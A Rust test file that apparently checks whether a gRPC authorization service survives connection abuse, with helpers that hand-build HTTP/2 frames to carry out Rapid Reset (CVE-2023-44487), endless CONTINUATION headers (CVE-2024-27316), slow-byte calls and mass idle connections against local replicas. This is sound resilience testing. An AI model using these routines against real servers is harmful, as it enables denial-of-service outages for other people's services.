//! Those who want no answer: connections that say nothing, or too much.

use std::{
    io::{Read, Write},
    net::TcpStream,
    thread,
};

use crate::{process::resident_kib, scene::Scene, tally::ALL};

const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// RFC 9113 §4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A header block of these fields: literal, never indexed, not compressed (RFC 7541 §6.2.3).
fn block(fields: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in fields {
        block.push(0x10);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).expect("shorter than 127"));
            block.extend(text.bytes());
        }
    }
    block
}

fn check_headers() -> Vec<u8> {
    block(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/envoy.service.auth.v3.Authorization/Check"),
        (":authority", "authz"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ])
}

/// A connection that has shaken hands, and whose answers are thrown away.
fn open(address: &str) -> TcpStream {
    let mut stream = TcpStream::connect(address).expect("connects");
    let mut reader = stream.try_clone().expect("a clone");
    thread::spawn(move || {
        let mut buffer = [0; 16 * 1024];
        while reader.read(&mut buffer).is_ok_and(|read| read > 0) {}
    });
    let _ = stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat());
    stream
}

/// Calls that are begun and taken back at once (CVE-2023-44487), over one connection after the other; how many.
fn rapid_resets(address: &str, calls: u32) -> u32 {
    const CANCEL: u32 = 8;
    let headers = check_headers();
    let mut sent = 0;
    while sent < calls {
        let mut stream = open(address);
        for number in 0..calls - sent {
            let call = 2 * number + 1;
            let begin = frame(HEADERS, END_HEADERS, call, &headers);
            let cancel = frame(RESET, 0, call, &CANCEL.to_be_bytes());
            if stream.write_all(&[begin, cancel].concat()).is_err() {
                break;
            }
            sent += 1;
        }
    }
    sent
}

/// Headers that never end (CVE-2024-27316): how many bytes of them were taken before the connection was closed.
fn endless_headers(address: &str, most: usize) -> usize {
    let mut stream = open(address);
    let field = block(&[("x-more", &"a".repeat(100))]).repeat(100);
    let _ = stream.write_all(&frame(HEADERS, 0, 1, &check_headers()));
    let more = frame(CONTINUATION, 0, 1, &field);
    let mut taken = 0;
    while taken < most && stream.write_all(&more).is_ok() {
        taken += more.len();
    }
    taken
}

/// A call that comes a byte at a time, and never as a whole.
fn slow_calls(address: &str, count: usize) -> Vec<TcpStream> {
    let call = frame(HEADERS, END_HEADERS, 1, &check_headers());
    let mut streams: Vec<_> = (0..count).map(|_| open(address)).collect();
    for byte in &call[..call.len() - 1] {
        for stream in &mut streams {
            let _ = stream.write_all(&[*byte]);
        }
    }
    streams
}

/// Fault 37.
#[test]
fn whatever_is_done_to_its_connections_the_service_serves_the_others_and_does_not_grow() {
    const IDLE: usize = 8_000;
    const MIB: u64 = 1024;
    let scene = Scene::start();
    scene.quiet();
    let (address, pid) = (
        scene.replicas[0].grpc.clone(),
        scene.replicas[0].process.id(),
    );
    let (before, _) = resident_kib(pid);
    let ((idle, slow, resets, endless), during) = scene.load().during(|| {
        let idle: Vec<_> = (0..IDLE)
            .map(|_| TcpStream::connect(&address).expect("connects"))
            .collect();
        let slow = slow_calls(&address, 500);
        let resets = rapid_resets(&address, 100_000);
        let endless = endless_headers(&address, 256 << 20);
        scene.load().pass(5);
        (idle, slow, resets, endless)
    });
    let (_, most) = resident_kib(pid);
    eprintln!(
        "fault 37: {} idle connections, {} slow ones, {resets} calls begun and reset, {} KiB of endless headers taken; \
         grown by {} MiB; {during}",
        idle.len(),
        slow.len(),
        endless / 1024,
        (most - before) / MIB
    );
    assert!(
        endless < 16 << 20,
        "headers without an end: {endless} bytes"
    );
    assert!(most - before < 200 * MIB, "{} MiB", (most - before) / MIB);
    during.assert_right("the others", &ALL, 999_000);
    drop((idle, slow));
    let after = scene.load().seconds(5);
    after.assert_right("after", &ALL, 999_000);
    scene.finish();
}
